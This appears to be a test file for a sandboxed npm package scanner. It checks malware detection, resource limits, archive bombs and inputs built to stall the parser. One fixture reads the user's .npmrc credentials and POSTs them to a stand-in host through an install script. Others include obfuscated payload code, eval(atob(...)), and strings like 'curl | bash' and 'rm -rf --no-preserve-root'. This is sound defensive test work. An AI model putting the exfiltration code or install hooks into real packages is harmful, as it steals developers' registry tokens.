/** Promises about scanning in children: everything is accounted for, and a dead child is never a clean report. */
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { gzipSync } from 'node:zlib';
import { isAssayError } from '../core/errors.ts';
import { file, tarball } from '../../test/support/tar-builder.ts';
import { createScanner, defaultScanLimits, type ScanLimits, type ScannerDeath } from './scanner.ts';

const folder = mkdtempSync(join(tmpdir(), 'assay-scan-'));
after(() => rmSync(folder, { recursive: true, force: true }));

const manifest = (fields: object = {}): ReturnType<typeof file> =>
  file('package/package.json', JSON.stringify({ name: 'x', version: '1.0.0', ...fields }));

let files = 0;
function stored(bytes: Uint8Array): string {
  files += 1;
  const path = join(folder, `${files}.tgz`);
  writeFileSync(path, bytes);
  return path;
}

async function withScanner<T>(
  run: (scanner: ReturnType<typeof createScanner>, deaths: readonly ScannerDeath[]) => Promise<T>,
  limits: Partial<ScanLimits> = {},
): Promise<T> {
  const deaths: ScannerDeath[] = [];
  const scanner = createScanner({
    nodePath: process.execPath,
    readable: [`${folder}/`],
    limits: { ...defaultScanLimits, ...limits },
    children: 1,
    onDeath: (death) => deaths.push(death),
  });
  try {
    return await run(scanner, deaths);
  } finally {
    await scanner.close();
  }
}

const steals = `const f = require('fs'); const t = f.readFileSync(process.env.HOME + '/.npmrc', 'utf8');
fetch('https://c.example', { method: 'POST', body: t });`;

test('a child reads the package.json itself, follows the install script and tells line and text', () =>
  withScanner(async (scanner) => {
    const bytes = tarball(
      manifest({ scripts: { postinstall: 'node ./scripts/go' } }),
      file('package/scripts/go.js', "require('../lib/work');"),
      file('package/lib/work.js', steals),
      file('package/LICENSE', 'no licence text that anybody knows'),
    );
    const report = await scanner.scan(stored(bytes), bytes.length);
    const found = report.findings.find(({ rule }) => rule === 'malware/exfiltrate-credentials');
    assert.equal(found?.severity, 'critical');
    assert.equal(found.path, 'lib/work.js');
    assert.equal(found.line, 2);
    assert.match(found.excerpt ?? '', /fetch\('https:\/\/c\.example'/);
    assert.ok((report.score?.value ?? 0) >= 9);
    assert.ok(
      report.score?.because.some((part) => part.includes('malware/exfiltrate-credentials (critical)')),
    );
    assert.ok(report.fingerprint.capabilities.includes('install:network'));
    assert.deepEqual(report.fingerprint.hosts, ['c.example']);
    assert.equal(report.bytesScanned, report.bytesPresent);
  }));

test('a folder is scanned without what was installed into it, and no link is followed', () =>
  withScanner(async (scanner) => {
    const root = join(folder, 'project');
    mkdirSync(join(root, 'node_modules'), { recursive: true });
    writeFileSync(join(root, 'package.json'), '{"main":"a.js"}');
    writeFileSync(join(root, 'a.js'), steals);
    writeFileSync(join(root, 'node_modules', 'b.js'), steals);
    symlinkSync('/etc', join(root, 'link'));
    const report = await scanner.scanFolder(root);
    assert.deepEqual(
      report.findings.map(({ rule, path }) => `${rule} ${path}`),
      [
        'malware/exfiltrate-credentials a.js',
        'malware/credentials-near-network a.js',
        'limits/not-scanned link',
      ],
    );
  }));

test('a member over the limit is a finding, and its bytes are counted as present and not scanned', () =>
  withScanner(
    async (scanner) => {
      const bytes = tarball(manifest(), file('package/big.js', 'x'.repeat(5000)));
      const report = await scanner.scan(stored(bytes), bytes.length);
      assert.deepEqual(
        report.findings.map(({ rule, path }) => [rule, path]),
        [['limits/not-scanned', 'big.js']],
      );
      assert.equal(report.bytesPresent - report.bytesScanned, 5000);
    },
    { memberBytes: 4096 },
  ));

test('an 11 MB file of one line is searched, and that it was not parsed is a finding', () =>
  withScanner(async (scanner) => {
    const part = (at: number): string => `(function(){return _0x1a2b3c(${(at * 2_654_435_761) % 1e9});})();`;
    const line = `const _0x1a2b3c=!![];${Array.from({ length: 270_000 }, (_, at) => part(at)).join('')}`;
    assert.ok(line.length > 11_000_000);
    const bytes = tarball(
      manifest({ scripts: { preinstall: 'node setup.js' } }),
      file('package/setup.js', "require('./payload.js')"),
      file('package/payload.js', line),
    );
    const report = await scanner.scan(stored(bytes), bytes.length);
    const rules = report.findings.map(({ rule, path }) => `${rule} ${path}`);
    for (const expected of [
      'malware/install-payload payload.js',
      'malware/obfuscated payload.js',
      'limits/not-parsed payload.js',
    ])
      assert.ok(rules.includes(expected), `${expected} in ${rules.join(', ')}`);
    assert.equal(report.bytesScanned, report.bytesPresent);
  }));

/** Reached by an install script, so that all of it is parsed. */
function hostile(code: string | Buffer): Buffer {
  return tarball(manifest({ scripts: { install: 'node i.js' } }), file('package/i.js', code));
}

test('nesting that ends a parser is a finding or SCAN_FAILED, never a clean report, and the pool goes on', () =>
  withScanner(async (scanner, deaths) => {
    const cases: Readonly<Record<string, string>> = {
      brackets: '['.repeat(100_000),
      calls: `${'a('.repeat(50_000)}${')'.repeat(50_000)}`,
      negations: `${'!'.repeat(300_000)}a`,
      arrows: `${'a=>'.repeat(100_000)}a`,
      sums: `x=${'1+'.repeat(200_000)}1`,
      members: `x${'.a'.repeat(200_000)}`,
      ternaries: `x=${'a?b:'.repeat(100_000)}c`,
      ifs: `${'if(a);else '.repeat(60_000)};`,
    };
    for (const [name, code] of Object.entries(cases)) {
      const bytes = hostile(code);
      const told = await scanner.scan(stored(bytes), bytes.length).then(
        ({ findings, parsedFiles }) =>
          parsedFiles === 1 || findings.some(({ area }) => area === 'limits') ? 'told' : 'clean',
        (error: unknown) => (isAssayError(error, 'SCAN_FAILED') ? 'failed' : String(error)),
      );
      assert.ok(told === 'told' || told === 'failed', `${name}: ${told}`);
    }
    const bytes = hostile(steals);
    assert.ok(((await scanner.scan(stored(bytes), bytes.length)).score?.value ?? 0) >= 9);
    for (const { reason } of deaths) assert.ok(['died', 'memory', 'cpu'].includes(reason), reason);
  }));

test('an archive that unpacks beyond its limits, is cut off or is none at all is SCAN_FAILED', () =>
  withScanner(
    async (scanner) => {
      const bomb = gzipSync(Buffer.alloc(8_000_000));
      const cut = tarball(manifest(), file('package/a.js', steals)).subarray(0, 150);
      for (const bytes of [bomb, cut, Buffer.from('no archive'), Buffer.alloc(0)]) {
        await assert.rejects(scanner.scan(stored(bytes), bytes.length), { code: 'SCAN_FAILED' });
      }
    },
    { unpackedBytes: 4_000_000 },
  ));

/** Some 50 nodes a piece. */
const manyNodes = (pieces: number): string => `x=[${'{a:[1,[2,"b"+c]]},'.repeat(pieces)}]`;

test('a child that grows over its memory is SCAN_FAILED, says so, and the next job works', () =>
  withScanner(
    async (scanner, deaths) => {
      const bytes = hostile(manyNodes(50_000));
      await assert.rejects(scanner.scan(stored(bytes), bytes.length), {
        code: 'SCAN_FAILED',
        message:
          /^the scanner was stopped: it (?:used more than \d+ bytes of memory|ended by SIGABRT: FATAL ERROR)/,
      });
      assert.equal(deaths.length, 1);
      const small = hostile(steals);
      assert.ok(((await scanner.scan(stored(small), small.length)).score?.value ?? 0) >= 9);
    },
    { residentBytes: 180 * 1024 * 1024 },
  ));

test('large files are parsed one after the other in one child, within its limits', () =>
  withScanner(async (scanner, deaths) => {
    for (const pieces of [40_000, 48_000, 52_000]) {
      const bytes = hostile(manyNodes(pieces));
      assert.equal((await scanner.scan(stored(bytes), bytes.length)).parsedFiles, 1);
    }
    assert.deepEqual(deaths, []);
  }));

test('a line of 50 MB is searched to its end, and what was not parsed of it is told', () =>
  withScanner(
    async (scanner) => {
      const line = Buffer.alloc(50_000_000, 'a+');
      const end = Buffer.from(`;${steals}`);
      const bytes = hostile(Buffer.concat([line, end]));
      const report = await scanner.scan(stored(bytes), bytes.length);
      assert.ok(report.findings.some(({ rule }) => rule === 'limits/not-parsed'));
      assert.deepEqual(report.fingerprint.hosts, ['c.example']);
      assert.ok(report.fingerprint.capabilities.includes('install:network'));
      assert.equal(report.bytesScanned, report.bytesPresent);
    },
    { ratio: 10_000 },
  ));

test('texts made to keep patterns busy, in code, names of files and commands, are scanned in bounded time', () =>
  withScanner(
    async (scanner) => {
      const busy = [
        'curl '.concat(' '.repeat(119)),
        '| '.repeat(40).concat('bash'),
        'scripts'.concat(' '.repeat(23), 'postinstall'),
        'fromCharCode('.concat('1,'.repeat(30)),
        'process.env    ',
        "require('",
        '://1.',
        '"a"+"',
        'PRIVATE KEY-----'.concat('A'.repeat(99), '\\n'),
        '<=   Infinity   ',
        'rm -rf --no-preserve-root   ',
        `a${' '.repeat(151)}`,
        '\u{e0100}',
      ].map((part) => part.repeat(5000));
      const path = `${'a-'.repeat(100)}.test.js`;
      const bytes = tarball(
        manifest({
          scripts: { install: `node i.js ${'node -e "'.repeat(2000)}`, postinstall: 'sh '.repeat(6000) },
        }),
        file('package/i.js', busy.join('\n')),
        file('package/a.sh', busy.join('')),
        file('package/b.json', busy.join('')),
        file(`package/${path}`, busy.join(';')),
      );
      const report = await scanner.scan(stored(bytes), bytes.length);
      assert.equal(report.bytesScanned, report.bytesPresent);
    },
    { cpuSeconds: 60, ratio: 10_000 },
  ));

test('thirty thousand files are scanned, and more than the limit are SCAN_FAILED', () =>
  withScanner(
    async (scanner) => {
      const some = (count: number): Buffer =>
        tarball(
          manifest(),
          ...Array.from({ length: count }, (_, at) => file(`package/${at}.js`, `a(${at})`)),
        );
      const fits = some(29_999);
      assert.equal((await scanner.scan(stored(fits), fits.length)).files, 30_000);
      const over = some(30_000);
      await assert.rejects(scanner.scan(stored(over), over.length), {
        code: 'SCAN_FAILED',
        message: /more than 30000 members/,
      });
    },
    { entries: 30_000 },
  ));

test('bytes that are no text, in names of text, are scanned without a fault', () =>
  withScanner(async (scanner) => {
    const noise = Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 197 + 13) % 256));
    const bytes = tarball(
      manifest({ scripts: { install: 'node i.js' } }),
      file(
        'package/i.js',
        Buffer.concat([Buffer.from("eval(atob('"), noise.filter((b) => b > 0x7f), Buffer.from("'))")]),
      ),
      file('package/a.sh', noise),
      file('package/b.json', noise),
    );
    const report = await scanner.scan(stored(bytes), bytes.length);
    assert.equal(report.files, 4);
    for (const { excerpt, path } of report.findings)
      assert.ok((excerpt ?? '').isWellFormed() && path.isWellFormed());
  }));
